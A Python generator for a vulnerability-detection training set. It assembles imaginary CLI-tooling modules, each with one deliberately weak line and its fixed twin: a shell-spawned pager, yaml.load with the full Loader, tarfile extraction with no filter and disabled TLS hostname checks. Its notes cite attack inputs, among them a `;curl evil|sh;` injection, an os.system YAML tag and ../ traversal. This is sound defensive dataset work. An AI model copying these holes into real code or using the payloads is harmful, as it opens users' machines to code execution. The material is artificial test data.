"""Train-only whole-module families weighted towards hard negatives (libs18 tooling set): modules shaped
like mature developer-tooling internals of imaginary packages (a CLI's project viewer and pager spawner,
a config loader for a repository's ``.toolrc.yaml``, a plugin installer fetching archives from the
package index, an upload client for the index) in which security-looking idioms are used correctly: a
compiler invoked with a fixed argument list, work dirs from ``tempfile.mkdtemp`` and ``sys.executable``
runs, ``shlex.split`` of a configured pager, ``yaml.safe_load`` with ``string.Template`` env
interpolation, ``logging.config.dictConfig`` from the package's own defaults, plugins from
``importlib.metadata.entry_points``, sha256 digests checked with ``hmac.compare_digest``.

Each family has one weak module (exactly one weak statement among many safe ones) with its minimal fix
as twin, and a ``@hardneg(10)`` builder that assembles safe modules from the same pool of parts with
other draws, so the modules differ in the set of functions they hold, not only in names.

Covers: a pager spawned through a shell with a file name built from index metadata (78), a repository
config read with ``yaml.load`` and the full ``yaml.Loader`` (502), a downloaded plugin tarball extracted
with ``extractall`` and no filter (22), and an index upload client whose TLS context has
``check_hostname = False`` (295).
Written without reading the held-out or validation families; every family here goes to train.
"""

import scenarios.train_modules_safe_web as _web
from core import Spec
from registry import fam, hardneg
from scenarios.train_modules_safe_web import P, fill

_STDLIB = _web._STDLIB | {"fnmatch", "glob", "importlib", "io", "shlex", "shutil", "ssl", "stat", "subprocess",
                          "sysconfig", "tarfile", "tempfile", "tomllib", "zipfile"}
compose, pair = _web.with_stdlib(_STDLIB)


def _kw(c):
    pkg = c.pick("quarry", "tessellate", "buildwright", "plinth", "marrow", "spindle", "gantry", "cobble",
                 "fennel", "lathe", "keel", "trowel")
    return dict(
        pkg=pkg, PKG=pkg.upper(), log=c.pick("log", "logger", "_log"),
        index=c.pick("pypi.example.org", "packages.example.com", "index.example.net", "wheels.example.dev"),
        group=c.pick(f"{pkg}.plugins", f"{pkg}.extensions", f"{pkg}_hooks"),
        timeout=c.pick(10, 15, 20, 30),
        cc_fn=c.pick("compile_extension", "_build_shared_object", "run_compiler"),
        wd_fn=c.pick("make_workdir", "_fresh_workdir", "scratch_dir"),
        py_fn=c.pick("run_python", "_interpreter_check", "probe_interpreter"),
        lc_fn=c.pick("configure_logging", "setup_logging", "_init_logging"),
        ep_fn=c.pick("load_plugins", "discover_plugins", "iter_plugins"),
        dg_fn=c.pick("file_sha256", "sha256_of", "_digest_file"),
        ver_fn=c.pick("tool_version", "_probe_version", "executable_version"),
        git_fn=c.pick("git_revision", "_head_commit", "current_commit"),
        cache_fn=c.pick("cache_dir", "user_cache_dir", "_cache_root"),
        aw_fn=c.pick("atomic_write", "_write_atomically", "replace_file"),
        pg_fn=c.pick("page_text", "_show_paged", "echo_via_pager"),
        ip_fn=c.pick("interpolate", "_expand_env", "expand_placeholders"),
    )


def _pool(c):
    """Safe tooling helpers shared by every family: each part carries its own imports and constants."""
    cc_flags = c.pick('["-O2", "-fPIC", "-shared"]', '["-O2", "-g0", "-fPIC", "-shared", "-Wall"]',
                      '["-fPIC", "-shared", "-std=c11"]')
    pager_default = c.pick('"less -R"', '"less -FRX"', '"more"')
    py_args = c.pick('["-c", "import sys; print(sys.version)"]', '["-m", "pip", "--version"]',
                     '["-I", "-c", "import sysconfig; print(sysconfig.get_platform())"]')
    return [
        P("cc", rank=1, imp="import os\nimport shutil\nimport subprocess\nimport sysconfig\nfrom pathlib import Path",
          const=f"CFLAGS = {cc_flags}\nCOMPILE_TIMEOUT = {c.pick(300, 600, 900)}", body='''
            def $cc_fn(source: Path, output: Path) -> None:
                """Compile one C source into a shared object with a fixed argument list (no shell)."""
                compiler = shutil.which(os.environ.get("CC", "cc")) or "cc"
                include = sysconfig.get_paths()["include"]
                argv = [compiler, *CFLAGS, "-I", include, "-o", str(output), str(source)]
                $log.debug("compiling %s", source.name)
                subprocess.run(argv, check=True, timeout=COMPILE_TIMEOUT)
        '''),
        P("workdir", rank=1, imp="import tempfile\nfrom pathlib import Path", body='''
            def $wd_fn(label: str) -> Path:
                """A private scratch directory (mode 0700) for one test session or build."""
                return Path(tempfile.mkdtemp(prefix=f"$pkg-{label}-"))
        '''),
        P("runpy", rank=2, needs=["workdir"], imp="import subprocess\nimport sys", const=f"PROBE_ARGS = {py_args}",
          body='''
            def $py_fn() -> str:
                """Run the current interpreter in a fresh work dir and return what it prints."""
                cwd = $wd_fn("probe")
                proc = subprocess.run([sys.executable, *PROBE_ARGS], cwd=cwd, capture_output=True, text=True,
                                      timeout=$timeout, check=False)
                if proc.returncode:
                    $log.warning("interpreter probe exited with %d", proc.returncode)
                return proc.stdout.strip()
        '''),
        P("logconf", rank=1, imp="import logging.config", body='''
            def $lc_fn(verbose: bool = False) -> None:
                """Console logging from the package's own defaults (nothing read from the project)."""
                logging.config.dictConfig({
                    "version": 1,
                    "disable_existing_loggers": False,
                    "formatters": {"plain": {"format": "%(levelname)s %(name)s: %(message)s"}},
                    "handlers": {"console": {"class": "logging.StreamHandler", "formatter": "plain"}},
                    "loggers": {"$pkg": {"handlers": ["console"], "level": "DEBUG" if verbose else "INFO"}},
                })
        '''),
        P("entrypoints", rank=1, imp="from importlib.metadata import entry_points", const='PLUGIN_GROUP = "$group"',
          body='''
            def $ep_fn(enabled: set[str] | None = None) -> dict[str, object]:
                """Plugins registered by installed distributions under ``PLUGIN_GROUP``."""
                found = {}
                for ep in entry_points(group=PLUGIN_GROUP):
                    if enabled is not None and ep.name not in enabled:
                        continue
                    try:
                        found[ep.name] = ep.load()
                    except Exception:  # a broken plugin must not break the tool
                        $log.exception("could not load plugin %s", ep.name)
                return found
        '''),
        P("digest", rank=1, imp="import hashlib\nfrom pathlib import Path", body='''
            def $dg_fn(path: Path) -> str:
                """sha256 of a file, read in chunks."""
                h = hashlib.sha256()
                with path.open("rb") as fh:
                    for chunk in iter(lambda: fh.read(1 << 16), b""):
                        h.update(chunk)
                return h.hexdigest()
        '''),
        P("version", rank=1, imp="import shutil\nimport subprocess", body='''
            def $ver_fn(name: str) -> str | None:
                """``<tool> --version`` of an executable on PATH, or None when it is missing."""
                exe = shutil.which(name)
                if exe is None:
                    return None
                proc = subprocess.run([exe, "--version"], capture_output=True, text=True, timeout=$timeout)
                return (proc.stdout or proc.stderr).strip().splitlines()[0] if proc.returncode == 0 else None
        '''),
        P("git", rank=1, imp="import subprocess\nfrom pathlib import Path", body='''
            def $git_fn(root: Path) -> str | None:
                """The commit the project is built from, for the build metadata."""
                proc = subprocess.run(["git", "rev-parse", "--verify", "HEAD"], cwd=root, capture_output=True,
                                      text=True, check=False)
                return proc.stdout.strip() or None
        '''),
        P("cache", rank=1, imp="import os\nfrom pathlib import Path", body='''
            def $cache_fn() -> Path:
                """Per-user cache directory, created private."""
                base = Path(os.environ.get("XDG_CACHE_HOME") or Path.home() / ".cache")
                path = base / "$pkg"
                path.mkdir(mode=0o700, parents=True, exist_ok=True)
                return path
        '''),
        P("atomic", rank=1, imp="import os\nimport tempfile\nfrom pathlib import Path", body='''
            def $aw_fn(path: Path, data: str) -> None:
                """Write next to the target, then rename over it, so readers never see half a file."""
                fd, tmp = tempfile.mkstemp(dir=path.parent, prefix=f".{path.name}.")
                with os.fdopen(fd, "w", encoding="utf-8") as fh:
                    fh.write(data)
                os.replace(tmp, path)
        '''),
        P("pager", rank=1, imp="import os\nimport shlex\nimport subprocess", const=f"DEFAULT_PAGER = {pager_default}",
          body='''
            def $pg_fn(text: str) -> None:
                """Show long output through the user's configured pager, split like a shell would."""
                argv = shlex.split(os.environ.get("$PKG_PAGER") or os.environ.get("PAGER") or DEFAULT_PAGER)
                try:
                    subprocess.run(argv, input=text, text=True, check=False)
                except FileNotFoundError:
                    print(text)
        '''),
        P("interp", rank=1, imp="import os\nimport string", body='''
            def $ip_fn(value: object) -> object:
                """Expand ``${VAR}`` in config strings from the environment; unknown names stay as written."""
                if isinstance(value, str):
                    return string.Template(value).safe_substitute(os.environ)
                if isinstance(value, dict):
                    return {k: $ip_fn(v) for k, v in value.items()}
                if isinstance(value, list):
                    return [$ip_fn(v) for v in value]
                return value
        '''),
    ]


def _drop(pool, *keys):
    return [p for p in pool if p.key not in keys]


# ---------------- CWE-78: project viewer spawning the pager through a shell with index-supplied names ----------------

_VIEW_DOCS = ["``$pkg show``: fetch a project's description from the index and page it.",
              "Project viewer of the $pkg CLI: index metadata, rendered to text and shown in a pager.",
              "Read-only views of index projects for the $pkg command line."]


def _view_core(c):
    fetch = c.pick("urllib", "http")
    fetch_body = ('''
            def fetch_metadata(project: str) -> dict:
                """The index's JSON metadata of ``project``."""
                url = INDEX_JSON.format(name=quote(project, safe=""))
                with urllib.request.urlopen(url, timeout=$timeout) as resp:
                    return json.load(resp)
    ''' if fetch == "urllib" else '''
            def fetch_metadata(project: str) -> dict:
                """The index's JSON metadata of ``project`` over one HTTPS connection."""
                conn = http.client.HTTPSConnection("$index", timeout=$timeout)
                try:
                    conn.request("GET", "/pypi/" + quote(project, safe="") + "/json", headers={"Accept": "application/json"})
                    resp = conn.getresponse()
                    if resp.status != 200:
                        raise LookupError(f"{project}: index answered {resp.status}")
                    return json.loads(resp.read())
                finally:
                    conn.close()
    ''')
    return [
        P("logging", rank=0, imp="import logging"),
        P("fetch", rank=1, imp=("import json\nimport urllib.request\nfrom urllib.parse import quote" if fetch == "urllib"
                                else "import http.client\nimport json\nfrom urllib.parse import quote"),
          const='INDEX_JSON = "https://$index/pypi/{name}/json"', body=fetch_body),
        P("show", rank=3, needs=["workdir"], imp="import os\nimport shlex\nimport subprocess\nfrom pathlib import Path",
          const=f'VIEW_PAGER = {c.pick(chr(34) + "less -R" + chr(34), chr(34) + "less" + chr(34))}', body='''
            def show_project(project: str) -> int:
                """Write the project description to a scratch file and open it in the pager."""
                meta = fetch_metadata(project)["info"]
                name, version = meta["name"], meta["version"]$FIX2
                path = $wd_fn("show") / Path(f"{name}-{version}.txt").name  # no directory parts
                path.write_text(meta.get("description") or meta.get("summary") or "", encoding="utf-8")
                pager = os.environ.get("PAGER") or VIEW_PAGER
                $log.debug("paging %s with %s", path, pager)
                $FIX
                return proc.returncode
        '''),
    ]


@fam("mod18-project-viewer-pager-shell-index-name", "CWE-78", fws=["cli"], n=8, wrap=False)
def mod18_viewer_pager(c):
    kw = _kw(c)
    core, pool = _view_core(c), _pool(c)
    cmd = c.pick('f"{pager} {path}"', '" ".join([pager, str(path)])', '"%s %s" % (pager, path)', 'pager + " " + str(path)')
    run = c.pick("run", "call")
    if run == "run":
        vfix = f"proc = subprocess.run({cmd}, shell=True, check=False)  #@V"
        sfix = "proc = subprocess.run([*shlex.split(pager), str(path)], check=False)"
    else:
        vfix = f"proc = subprocess.Popen({cmd}, shell=True)  #@V\n    proc.wait()"
        sfix = "proc = subprocess.Popen([*shlex.split(pager), str(path)])\n    proc.wait()"
    v, s = pair(c, c.pick(*_VIEW_DOCS), '$log = logging.getLogger("$pkg.show")', core, pool, kw,
                (vfix, "  #@S"), (sfix, ""))
    return Spec(v=v, s=s, full=True, fw="cli",
                notes="the pager runs through a shell with a file name built from the index's metadata (project "
                      "name and version as the index returns them): whoever publishes or spoofs that metadata can "
                      "put `;curl evil|sh;` in the version and run commands on the user's machine; the fix splits "
                      "the configured pager with shlex.split and passes the path as its own argument, no shell")


@hardneg(10)
def mod18_viewer_pager_hn(c):
    kw = _kw(c)
    core, pool = _view_core(c), _pool(c)
    fix = c.pick("proc = subprocess.run([*shlex.split(pager), str(path)], check=False)",
                 "proc = subprocess.run(shlex.split(pager) + [os.fspath(path)], check=False)",
                 'proc = subprocess.run([*shlex.split(pager), "--", str(path)], check=False, env={**os.environ, "LESSSECURE": "1"})')
    code = compose(c, c.pick(*_VIEW_DOCS), '$log = logging.getLogger("$pkg.show")', core, pool, kw, lo=80, hi=110,
                   subs=[{"$FIX2": "", "$FIX": fix}])[0]
    return Spec(s=code, full=True, fw="cli",
                notes="pager spawned from shlex.split of the configured command with the path as a separate "
                      "argument; compiler and interpreter runs with fixed argv lists, mkdtemp work dirs")


# ---------------- CWE-502: repository config loaded with yaml.load and the full Loader ----------------

_CFG_DOCS = ["Configuration loading for $pkg: the project's ``.$pkg.yaml`` merged over built-in defaults.",
             "Finds and reads the repository's $pkg config file, with ``${VAR}`` expansion from the environment.",
             "Project settings of $pkg (lint/test runner), discovered from the working directory upwards."]


def _cfg_core(c):
    names = c.pick('(".$pkg.yaml", ".$pkg.yml")', '(".$pkg.yaml", "$pkg.yaml", ".config/$pkg.yaml")')
    defaults = c.pick('{"jobs": 4, "paths": ["src", "tests"], "exclude": [], "color": "auto"}',
                      '{"jobs": 0, "paths": ["."], "exclude": ["build", "dist"], "fail_fast": False}')
    return [
        P("logging", rank=0, imp="import logging"),
        P("consts", rank=0, imp="from pathlib import Path", const=f"CONFIG_NAMES = {names}\nDEFAULTS = {defaults}"),
        P("find", rank=2, imp="from pathlib import Path", body='''
            def find_config(start: Path | None = None) -> Path | None:
                """The nearest config file from ``start`` up to the repository root (or the file-system root)."""
                here = (start or Path.cwd()).resolve()
                for folder in (here, *here.parents):
                    for name in CONFIG_NAMES:
                        candidate = folder / name
                        if candidate.is_file():
                            return candidate
                    if (folder / ".git").exists():
                        break
                return None
        '''),
        P("load", rank=3, needs=["interp"], imp="import yaml\nfrom pathlib import Path", body='''
            def load_config(path: Path | None = None) -> dict:
                """Defaults, overlaid with the project's file when there is one."""
                path = path or find_config()
                settings = dict(DEFAULTS)
                if path is None:
                    $log.debug("no config file found, using defaults")
                    return settings
                with path.open(encoding="utf-8") as fh:
                    $FIX
                if not isinstance(data, dict):
                    raise ValueError(f"{path}: top level must be a mapping")
                unknown = sorted(set(data) - set(DEFAULTS))
                if unknown:
                    $log.warning("%s: ignoring unknown keys %s", path, ", ".join(unknown))
                settings.update({k: $ip_fn(v) for k, v in data.items() if k in DEFAULTS})
                return settings
        '''),
    ]


@fam("mod18-repo-config-yaml-full-loader", "CWE-502", fws=["cli"], n=8, wrap=False)
def mod18_cfg_yaml(c):
    kw = _kw(c)
    core, pool = _cfg_core(c), _pool(c)
    loader = c.pick("yaml.Loader", "yaml.UnsafeLoader")
    src = c.pick("fh", "fh.read()")
    vfix = f"data = yaml.load({src}, Loader={loader}) or {{}}  #@V"
    sfix = c.pick(f"data = yaml.safe_load({src}) or {{}}", f"data = yaml.load({src}, Loader=yaml.SafeLoader) or {{}}")
    v, s = pair(c, c.pick(*_CFG_DOCS), '$log = logging.getLogger("$pkg.config")', core, pool, kw, vfix, sfix)
    return Spec(v=v, s=s, full=True, fw="cli",
                notes="the config file comes with the repository being checked (a pull request can add or change "
                      "it) and is parsed with yaml.load and the full Loader, which builds arbitrary Python objects "
                      "(!!python/object/apply:os.system) and so runs code on CI or a reviewer's machine; the fix "
                      "parses it with safe_load / SafeLoader")


@hardneg(10)
def mod18_cfg_yaml_hn(c):
    kw = _kw(c)
    core, pool = _cfg_core(c), _pool(c)
    src = c.pick("fh", "fh.read()")
    fix = c.pick(f"data = yaml.safe_load({src}) or {{}}", f"data = yaml.load({src}, Loader=yaml.SafeLoader) or {{}}",
                 f"data = yaml.load({src}, Loader=getattr(yaml, \"CSafeLoader\", yaml.SafeLoader)) or {{}}")
    code = compose(c, c.pick(*_CFG_DOCS), '$log = logging.getLogger("$pkg.config")', core, pool, kw, lo=80, hi=110,
                   subs=[{"$FIX": fix}])[0]
    return Spec(s=code, full=True, fw="cli",
                notes="repository config parsed with yaml.safe_load / SafeLoader, ${VAR} expansion with "
                      "string.Template.safe_substitute, dictConfig from the package's own dict")


# ---------------- CWE-22: plugin installer extracting a downloaded tarball without a filter ----------------

_PLUG_DOCS = ["``$pkg plugin install``: download a plugin release from the index and unpack it.",
              "Plugin installation for $pkg: fetch the sdist, check its digest, unpack into the plugin dir.",
              "Installs third-party $pkg plugins published as tarballs on the package index."]


def _plug_core(c):
    return [
        P("logging", rank=0, imp="import logging"),
        P("consts", rank=0, imp="import os\nfrom pathlib import Path",
          const='PLUGIN_HOME = Path(os.environ.get("$PKG_PLUGIN_HOME") or Path.home() / ".$pkg" / "plugins")\n'
                'DOWNLOAD_URL = "https://$index/packages/{name}/{name}-{version}.tar.gz"'),
        P("download", rank=2, needs=["digest", "workdir"],
          imp="import hmac\nimport shutil\nimport urllib.request\nfrom pathlib import Path\nfrom urllib.parse import quote", body='''
            def download(name: str, version: str, sha256: str) -> Path:
                """Fetch the release tarball into a scratch dir and check its published digest."""
                url = DOWNLOAD_URL.format(name=quote(name, safe=""), version=quote(version, safe=""))
                target = $wd_fn("dl") / f"{name}-{version}.tar.gz"
                with urllib.request.urlopen(url, timeout=$timeout) as resp, target.open("wb") as out:
                    shutil.copyfileobj(resp, out)
                if not hmac.compare_digest($dg_fn(target), sha256.lower()):
                    raise ValueError(f"{name} {version}: digest mismatch")
                return target
        '''),
        P("install", rank=3, imp="import tarfile\nfrom pathlib import Path", body='''
            def install(name: str, version: str, sha256: str) -> Path:
                """Unpack the checked tarball under ``PLUGIN_HOME/<name>``."""
                archive = download(name, version, sha256)$FIX2
                dest = PLUGIN_HOME / name
                dest.mkdir(parents=True, exist_ok=True)
                with tarfile.open(archive, "r:gz") as tar:
                    $FIX
                $log.info("installed %s %s into %s", name, version, dest)
                return dest
        '''),
    ]


@fam("mod18-plugin-installer-tar-extractall-no-filter", "CWE-22", fws=["cli"], n=8, wrap=False)
def mod18_plugin_tar(c):
    kw = _kw(c)
    core, pool = _plug_core(c), _pool(c)
    vfix = c.pick("tar.extractall(dest)  #@V", "tar.extractall(path=dest)  #@V", "tar.extractall(dest, members=tar.getmembers())  #@V")
    sfix = c.pick('tar.extractall(dest, filter="data")', 'tar.extractall(path=dest, filter="data")',
                  'tar.extractall(dest, filter=tarfile.data_filter)')
    v, s = pair(c, c.pick(*_PLUG_DOCS), '$log = logging.getLogger("$pkg.plugins")', core, pool, kw,
                (vfix, "  #@S"), (sfix, ""))
    return Spec(v=v, s=s, full=True, fw="cli",
                notes="the plugin tarball is third-party content (the digest only proves it is the file the "
                      "plugin author published) and extractall without a filter follows member names like "
                      "../../.bashrc, absolute paths and links out of the plugin dir; the fix extracts with the "
                      "'data' filter, which rejects such members")


@hardneg(10)
def mod18_plugin_tar_hn(c):
    kw = _kw(c)
    core, pool = _plug_core(c), _pool(c)
    fix = c.pick('tar.extractall(dest, filter="data")', 'tar.extractall(path=dest, filter=tarfile.data_filter)',
                 'tar.extractall(dest, members=tar.getmembers(), filter="data")')
    code = compose(c, c.pick(*_PLUG_DOCS), '$log = logging.getLogger("$pkg.plugins")', core, pool, kw, lo=80, hi=110,
                   subs=[{"$FIX2": "", "$FIX": fix}])[0]
    return Spec(s=code, full=True, fw="cli",
                notes="downloaded plugin tarball checked by sha256 (compare_digest) and extracted with the data "
                      "filter; plugins loaded from entry_points, scratch dirs from mkdtemp")


# ---------------- CWE-295: index upload client with hostname checking turned off ----------------

_UP_DOCS = ["Upload client of $pkg: pushes built distributions to the package index over HTTPS.",
            "``$pkg publish``: authenticated uploads of wheels and sdists to $index.",
            "Talks to the package index's legacy upload API for the $pkg release command."]


def _up_core(c):
    cafile = c.pick('os.environ.get("$PKG_CA_BUNDLE")', 'os.environ.get("SSL_CERT_FILE")', "None")
    return [
        P("logging", rank=0, imp="import logging"),
        P("consts", rank=0, imp="import os",
          const='INDEX_HOST = os.environ.get("$PKG_INDEX_HOST", "$index")\nUPLOAD_PATH = "/legacy/"'),
        P("ctx", rank=2, imp="import os\nimport ssl", body='''
            def tls_context() -> ssl.SSLContext:
                """Client TLS context for the index (system trust, or a private bundle)."""
                ctx = ssl.create_default_context(cafile=''' + cafile + ''')
                ctx.minimum_version = ssl.TLSVersion.TLSv1_2
                $FIX
                return ctx
        '''),
        P("upload", rank=3, needs=["digest"],
          imp="import base64\nimport http.client\nimport os\nimport uuid\nfrom pathlib import Path", body='''
            def upload(dist: Path, token: str | None = None) -> int:
                """POST one distribution as multipart form data; returns the HTTP status."""
                token = token or os.environ["$PKG_INDEX_TOKEN"]
                boundary = uuid.uuid4().hex
                fields = {":action": "file_upload", "sha256_digest": $dg_fn(dist), "protocol_version": "1"}
                parts = [f'--{boundary}\\r\\nContent-Disposition: form-data; name="{k}"\\r\\n\\r\\n{v}\\r\\n'.encode()
                         for k, v in fields.items()]
                parts.append(f'--{boundary}\\r\\nContent-Disposition: form-data; name="content"; '
                             f'filename="{dist.name}"\\r\\n\\r\\n'.encode() + dist.read_bytes() + b"\\r\\n")
                body = b"".join(parts) + f"--{boundary}--\\r\\n".encode()
                auth = base64.b64encode(f"__token__:{token}".encode()).decode()
                conn = http.client.HTTPSConnection(INDEX_HOST, timeout=$timeout, context=tls_context())
                try:
                    conn.request("POST", UPLOAD_PATH, body=body, headers={
                        "Authorization": "Basic " + auth,
                        "Content-Type": f"multipart/form-data; boundary={boundary}",
                    })
                    status = conn.getresponse().status
                finally:
                    conn.close()
                $log.info("uploaded %s: %d", dist.name, status)
                return status
        '''),
    ]


# Dropped in second-author review (R78): same shape as a held-out validation family (create_default_context,
# then check_hostname = False, for http.client.HTTPSConnection); the generator skips it via data/review.
@fam("mod18-index-upload-tls-check-hostname-off", "CWE-295", fws=["cli"], n=8, wrap=False)
def mod18_upload_hostname(c):
    kw = _kw(c)
    core, pool = _up_core(c), _drop(_pool(c), "pager", "logconf")
    vfix = "ctx.check_hostname = False  #@V"
    sfix = c.pick("ctx.check_hostname = True", "ctx.verify_mode = ssl.CERT_REQUIRED")
    v, s = pair(c, c.pick(*_UP_DOCS), '$log = logging.getLogger("$pkg.upload")', core, pool, kw, vfix, sfix)
    return Spec(v=v, s=s, full=True, fw="cli",
                notes="the TLS context for the index keeps chain validation but turns off host-name checking, so "
                      "any certificate from a trusted CA for any host is accepted and whoever sits on the path "
                      "receives the upload token and can swap the distribution; the fix leaves check_hostname on")


@hardneg(10)
def mod18_upload_hostname_hn(c):
    kw = _kw(c)
    core, pool = _up_core(c), _pool(c)
    fix = c.pick("ctx.check_hostname = True", "ctx.verify_mode = ssl.CERT_REQUIRED",
                 "ctx.verify_flags |= ssl.VERIFY_X509_STRICT", 'ctx.set_alpn_protocols(["http/1.1"])')
    code = compose(c, c.pick(*_UP_DOCS), '$log = logging.getLogger("$pkg.upload")', core, pool, kw, lo=80, hi=110,
                   subs=[{"$FIX": fix}])[0]
    return Spec(s=code, full=True, fw="cli",
                notes="index upload over ssl.create_default_context with host-name checks on, token from the "
                      "environment, sha256 digest field, fixed-argv compiler and interpreter runs")
